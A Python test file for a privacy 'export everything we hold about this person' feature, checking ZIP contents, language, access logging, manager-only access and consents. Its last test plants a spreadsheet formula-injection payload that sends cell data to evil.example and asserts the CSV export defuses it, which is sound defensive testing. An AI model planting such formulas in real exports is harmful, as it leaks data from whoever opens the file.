""""Everything we hold about this person": one ZIP of JSON and CSV from every enabled module, in
the person's language, with their data and nobody else's; the export is in the access log."""

import csv
import io
import json
import zipfile

from sqlalchemy import select

from kernel.access_log import RecordRead
from kernel.db import db
from tests.privacy.person_helpers import a_client_with_data
from tests.privacy.retention_helpers import a_closed_contact, a_line, a_profile, a_resource, a_term


def unzip(response) -> zipfile.ZipFile:
    assert response.status_code == 200, response.status_code
    assert response.mimetype == "application/zip"
    return zipfile.ZipFile(io.BytesIO(response.data))


def everything_in(archive: zipfile.ZipFile) -> str:
    return "\n".join(archive.read(name).decode("utf-8", "replace") for name in archive.namelist())


def test_a_clients_export_holds_their_data_from_every_module_and_nobody_elses(app, staff, admin_client):
    zoe = a_client_with_data(staff)
    a_client_with_data(staff, "Marc", "Roy", email="marc.roy@example.org", number="SAE-0002",
                       phone="(514) 555-0202")
    archive = unzip(admin_client.get(f"/privacy/people/clients/{zoe.id}/export.zip"))
    names = archive.namelist()
    for part in ("clients.client", "activities.call", "sae.case_file"):
        assert f"{part}.json" in names and f"{part}.csv" in names, names
    text = everything_in(archive)
    assert "Tremblay" in text and "zoe.tremblay@example.org" in text and "welder" in text and "SAE-0001" in text
    assert "Roy" not in text and "Marc" not in text and "SAE-0002" not in text
    calls = json.loads(archive.read("activities.call.json"))
    assert [list(call.values()).count("Call Zoé Tremblay about the CV") for call in calls] == [1]
    rows = list(csv.DictReader(io.StringIO(archive.read("clients.client.csv").decode("utf-8-sig"))))
    assert rows[0]["Nom de famille"] == "Tremblay"  # Zoé's language is French


def test_the_export_is_in_the_persons_language(app, staff, admin_client):
    marc = a_client_with_data(staff, "Marc", "Roy", language="en", email="marc.roy@example.org")
    archive = unzip(admin_client.get(f"/privacy/people/clients/{marc.id}/export.zip"))
    index = json.loads(archive.read("index.json"))
    assert index["language"] == "en" and index["title"].startswith("Everything we hold about")
    assert "Last name" in archive.read("clients.client.csv").decode("utf-8-sig")


def test_a_callers_export_holds_their_contacts_needs_and_referrals(app, staff, admin_client):
    profile = a_profile(staff)
    a_closed_contact(staff, profile, a_line(), a_term(), a_resource())
    other = a_profile(staff, name="Jonas Kilabuk", phone="(867) 979-7777", email="jonas@example.org")
    archive = unzip(admin_client.get(f"/privacy/people/caller-profiles/{profile.id}/export.zip"))
    names = archive.namelist()
    for part in ("contactcenter.caller_profile", "contactcenter.helpline_contact", "contactcenter.service_need",
                 "contactcenter.referral"):
        assert f"{part}.json" in names, names
    text = everything_in(archive)
    assert "Tremblay" in text and "Kilabuk" not in text and "jonas@example.org" not in text
    assert other.id != profile.id


def test_the_export_is_recorded_in_the_access_log(app, staff, admin, admin_client):
    zoe = a_client_with_data(staff)
    admin_client.get(f"/privacy/people/clients/{zoe.id}/export.zip")
    read = db.session.scalar(select(RecordRead).where(RecordRead.via == "person_export"))
    assert (read.entity, read.record_id, read.user_id) == ("client", zoe.id, admin.id)
    assert read.count >= 3


def test_only_managers_export_and_only_people(app, staff, staff_client, admin_client):
    zoe = a_client_with_data(staff)
    assert staff_client.get(f"/privacy/people/clients/{zoe.id}/export.zip").status_code == 403
    assert admin_client.get("/privacy/people/clients/999999/export.zip").status_code == 404
    assert admin_client.get("/privacy/people/calls/1/export.zip").status_code == 404
    assert admin_client.get("/privacy/people/nothing/1/export.zip").status_code == 404
    page = admin_client.get(f"/clients/{zoe.id}").get_data(as_text=True)
    assert f"/privacy/people/clients/{zoe.id}/export.zip" in page
    assert f"/privacy/people/clients/{zoe.id}/export.zip" not in staff_client.get(f"/clients/{zoe.id}").get_data(as_text=True)


def test_the_export_holds_the_files_of_the_documents_linked_to_the_person(app, staff, admin_client):
    from tests.privacy.person_helpers import a_document_about

    zoe = a_client_with_data(staff)
    document, _path = a_document_about(zoe)
    archive = unzip(admin_client.get(f"/privacy/people/clients/{zoe.id}/export.zip"))
    assert archive.read(f"files/activities.document_files/{document.id}-cv.txt") == "Zoé Tremblay's CV".encode()
    assert "activities.document.json" in archive.namelist()


def test_the_export_holds_the_persons_consents_and_anonymising_empties_their_notes(app, staff, admin_client):
    from kernel.registry import entities
    from kernel.testing import give_consent
    from kernel.toolkit import personal_data
    from plugins.privacy.consent.models import Consent

    zoe = a_client_with_data(staff)
    give_consent("client", zoe.id, "sms_referrals", user=staff)
    db.session.execute(Consent.__table__.update().values(note="Zoé said yes on the phone"))
    db.session.commit()
    archive = unzip(admin_client.get(f"/privacy/people/clients/{zoe.id}/export.zip"))
    consents = json.loads(archive.read("privacy.consents.json"))
    assert len(consents) == 1 and "Zoé said yes on the phone" in consents[0].values()
    personal_data.apply(personal_data.plan(entities().get("client"), [zoe.id]))
    db.session.commit()
    assert db.session.scalar(select(Consent.note)) is None and db.session.scalar(select(Consent.given)) is True


def test_the_export_s_csv_quotes_what_a_spreadsheet_would_run(app, staff, admin_client):
    """A note typed as "=HYPERLINK(…)" opens as text in a spreadsheet; the JSON keeps it as typed."""
    from kernel.testing import give_consent
    from plugins.privacy.consent.models import Consent

    zoe = a_client_with_data(staff)
    give_consent("client", zoe.id, "sms_referrals", user=staff)
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    db.session.execute(Consent.__table__.update().values(note=formula))
    db.session.commit()
    archive = unzip(admin_client.get(f"/privacy/people/clients/{zoe.id}/export.zip"))
    assert formula in json.loads(archive.read("privacy.consents.json"))[0].values()
    table = archive.read("privacy.consents.csv").decode("utf-8-sig")
    assert "'=HYPERLINK" in table and ',=HYPERLINK' not in table and '"=HYPERLINK' not in table
